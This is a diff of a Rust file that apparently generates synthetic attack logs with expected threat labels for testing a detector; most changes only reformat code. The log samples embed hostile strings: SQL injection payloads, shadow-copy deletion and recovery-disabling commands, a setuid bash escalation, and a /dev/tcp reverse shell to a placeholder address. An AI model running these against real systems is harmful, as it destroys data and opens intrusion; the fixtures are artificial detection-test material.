@@ -35,17 +35,72 @@ const START_MILLIS: i64 = 1_770_019_200_000;
 
 /// All of them.
 pub const SAMPLES: &[Sample] = &[
-    Sample { name: "brute-force", summary: "Passwords of root are guessed over SSH, and in the end one is right.", expected: &[ThreatKind::AccountCompromise], write: brute_force },
-    Sample { name: "sql-injection", summary: "A shop's search is tried for SQL injection.", expected: &[ThreatKind::WebAttack], write: sql_injection },
-    Sample { name: "ransomware", summary: "Shadow copies are deleted, then files on a share are renamed by the hundred.", expected: &[ThreatKind::Ransomware], write: ransomware },
-    Sample { name: "insider", summary: "An employee who leaves takes customer records home by night.", expected: &[ThreatKind::InsiderThreat], write: insider },
-    Sample { name: "flood", summary: "One client asks a web server far faster than it can answer.", expected: &[ThreatKind::RequestFlood], write: flood },
-    Sample { name: "privilege-escalation", summary: "A web server's user becomes root.", expected: &[ThreatKind::PrivilegeEscalation], write: privilege_escalation },
-    Sample { name: "c2-beacon", summary: "A workstation calls the same strange port every minute.", expected: &[ThreatKind::CommandAndControl], write: beacon },
-    Sample { name: "phishing", summary: "A message from a look-alike domain, and somebody who believed it.", expected: &[ThreatKind::Phishing], write: phishing },
-    Sample { name: "mining", summary: "A miner runs from /tmp and speaks with its pool.", expected: &[ThreatKind::Cryptomining], write: mining },
-    Sample { name: "slow-intrusion", summary: "Over days: a scan, a way in through the web server, a backdoor, data that leaves.", expected: &[ThreatKind::WebAttack, ThreatKind::DataExfiltration, ThreatKind::Backdoor], write: slow_intrusion },
-    Sample { name: "clean", summary: "An ordinary working day, with all that looks like an attack and is none.", expected: &[], write: clean },
+    Sample {
+        name: "brute-force",
+        summary: "Passwords of root are guessed over SSH, and in the end one is right.",
+        expected: &[ThreatKind::AccountCompromise],
+        write: brute_force,
+    },
+    Sample {
+        name: "sql-injection",
+        summary: "A shop's search is tried for SQL injection.",
+        expected: &[ThreatKind::WebAttack],
+        write: sql_injection,
+    },
+    Sample {
+        name: "ransomware",
+        summary: "Shadow copies are deleted, then files on a share are renamed by the hundred.",
+        expected: &[ThreatKind::Ransomware],
+        write: ransomware,
+    },
+    Sample {
+        name: "insider",
+        summary: "An employee who leaves takes customer records home by night.",
+        expected: &[ThreatKind::InsiderThreat],
+        write: insider,
+    },
+    Sample {
+        name: "flood",
+        summary: "One client asks a web server far faster than it can answer.",
+        expected: &[ThreatKind::RequestFlood],
+        write: flood,
+    },
+    Sample {
+        name: "privilege-escalation",
+        summary: "A web server's user becomes root.",
+        expected: &[ThreatKind::PrivilegeEscalation],
+        write: privilege_escalation,
+    },
+    Sample {
+        name: "c2-beacon",
+        summary: "A workstation calls the same strange port every minute.",
+        expected: &[ThreatKind::CommandAndControl],
+        write: beacon,
+    },
+    Sample {
+        name: "phishing",
+        summary: "A message from a look-alike domain, and somebody who believed it.",
+        expected: &[ThreatKind::Phishing],
+        write: phishing,
+    },
+    Sample {
+        name: "mining",
+        summary: "A miner runs from /tmp and speaks with its pool.",
+        expected: &[ThreatKind::Cryptomining],
+        write: mining,
+    },
+    Sample {
+        name: "slow-intrusion",
+        summary: "Over days: a scan, a way in through the web server, a backdoor, data that leaves.",
+        expected: &[ThreatKind::WebAttack, ThreatKind::DataExfiltration, ThreatKind::Backdoor],
+        write: slow_intrusion,
+    },
+    Sample {
+        name: "clean",
+        summary: "An ordinary working day, with all that looks like an attack and is none.",
+        expected: &[],
+        write: clean,
+    },
 ];
 
 /// A log that is being written.
@@ -87,7 +142,8 @@ impl Log {
             let pause = 1 + self.any(20) as i64;
             self.wait(pause);
             let client = format!("198.51.100.{}", 10 + self.any(40));
-            let path = ["/", "/shop/lamps", "/shop/desks?page=2", "/cart", "/static/app.js", "/contact"][(page % 6) as usize];
+            let path =
+                ["/", "/shop/lamps", "/shop/desks?page=2", "/cart", "/static/app.js", "/contact"][(page % 6) as usize];
             self.web(&client, &format!("GET {path}"), 200, BROWSER);
         }
     }
@@ -99,8 +155,13 @@ impl Log {
             let text = match round % 5 {
                 0 => format!("CRON[{}]: (root) CMD (run-parts /etc/cron.hourly)", 4000 + round),
                 1 => "systemd[1]: Started logrotate.service - Rotate log files.".to_owned(),
-                2 => format!("sshd[{}]: Accepted publickey for deploy from 10.0.4.20 port {} ssh2: ED25519 SHA256:abc", 5000 + round, 40_000 + round),
-                3 => "backup[77]: snapshot of /srv finished, 1523 files encrypted with gpg and sent to the archive".to_owned(),
+                2 => format!(
+                    "sshd[{}]: Accepted publickey for deploy from 10.0.4.20 port {} ssh2: ED25519 SHA256:abc",
+                    5000 + round,
+                    40_000 + round
+                ),
+                3 => "backup[77]: snapshot of /srv finished, 1523 files encrypted with gpg and sent to the archive"
+                    .to_owned(),
                 _ => "ntpd[8]: synchronized to 10.0.0.1, stratum 2".to_owned(),
             };
             self.syslog(host, &text);
@@ -114,7 +175,14 @@ fn brute_force(log: &mut Log) {
     log.routine("gate", 10);
     for attempt in 0..40 {
         log.wait(3);
-        log.syslog("gate", &format!("sshd[{}]: Failed password for root from 203.0.113.45 port {} ssh2", 900 + attempt, 40_000 + attempt));
+        log.syslog(
+            "gate",
+            &format!(
+                "sshd[{}]: Failed password for root from 203.0.113.45 port {} ssh2",
+                900 + attempt,
+                40_000 + attempt
+            ),
+        );
     }
     log.wait(3);
     log.syslog("gate", "sshd[941]: Accepted password for root from 203.0.113.45 port 40041 ssh2");
@@ -123,7 +191,16 @@ fn brute_force(log: &mut Log) {
 
 fn sql_injection(log: &mut Log) {
     log.visits(60);
-    for (at, value) in ["1%27", "1%27%20OR%20%271%27=%271", "1%27+UNION+SELECT+user,password+FROM+users--", "1;DROP+TABLE+orders--", "1%27+AND+SLEEP(5)--"].iter().enumerate() {
+    for (at, value) in [
+        "1%27",
+        "1%27%20OR%20%271%27=%271",
+        "1%27+UNION+SELECT+user,password+FROM+users--",
+        "1;DROP+TABLE+orders--",
+        "1%27+AND+SLEEP(5)--",
+    ]
+    .iter()
+    .enumerate()
+    {
         log.wait(2);
         let status = if at % 2 == 0 { 500 } else { 403 };
         log.web("203.0.113.66", &format!("GET /shop/search?id={value}"), status, "sqlmap/1.8");
@@ -134,12 +211,20 @@ fn sql_injection(log: &mut Log) {
 fn ransomware(log: &mut Log) {
     log.routine("files1", 10);
     log.wait(20);
-    log.syslog("files1", "sysmon[7]: Process Create: Image=vssadmin.exe CommandLine=\"vssadmin delete shadows /all /quiet\" User=SVC01");
+    log.syslog(
+        "files1",
+        "sysmon[7]: Process Create: Image=vssadmin.exe CommandLine=\"vssadmin delete shadows /all /quiet\" User=SVC01",
+    );
     log.wait(2);
     log.syslog("files1", "sysmon[7]: Process Create: Image=bcdedit.exe CommandLine=\"bcdedit /set {default} recoveryenabled no\" User=SVC01");
     for file in 0..60 {
         log.wait(1);
-        log.syslog("files1", &format!("smbd_audit[88]: rename|ok|/share/projects/plan{file}.docx|/share/projects/plan{file}.docx.lockbit"));
+        log.syslog(
+            "files1",
+            &format!(
+                "smbd_audit[88]: rename|ok|/share/projects/plan{file}.docx|/share/projects/plan{file}.docx.lockbit"
+            ),
+        );
     }
     log.wait(1);
     log.syslog("files1", "smbd_audit[88]: create|ok|/share/projects/HOW_TO_DECRYPT_FILES.txt");
@@ -173,7 +258,10 @@ fn flood(log: &mut Log) {
 
 fn privilege_escalation(log: &mut Log) {
     log.routine("web1", 10);
-    log.syslog("web1", "sudo[812]: www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash");
+    log.syslog(
+        "web1",
+        "sudo[812]: www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash",
+    );
     log.wait(30);
     log.syslog("web1", "audit[812]: type=EXECVE msg=audit(1770020000.1:7): argc=3 a0=\"chmod\" a1=\"u+s\" a2=\"/bin/bash\" user=www-data");
     log.wait(10);
@@ -230,7 +318,10 @@ fn slow_intrusion(log: &mut Log) {
     log.syslog("web1", "audit[9]: EXECVE a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/203.0.113.140/4444 0>&1\"");
     log.wait(DAY);
     log.routine("web1", 5);
-    log.syslog("web1", "dlp[3]: possible data exfiltration detected: 4.2 GB uploaded by user=www-data to https://transfer.sh/abc");
+    log.syslog(
+        "web1",
+        "proxy[3]: possible data exfiltration detected: 4.2 GB uploaded by user=www-data to https://transfer.sh/abc",
+    );
 }
 
 fn clean(log: &mut Log) {
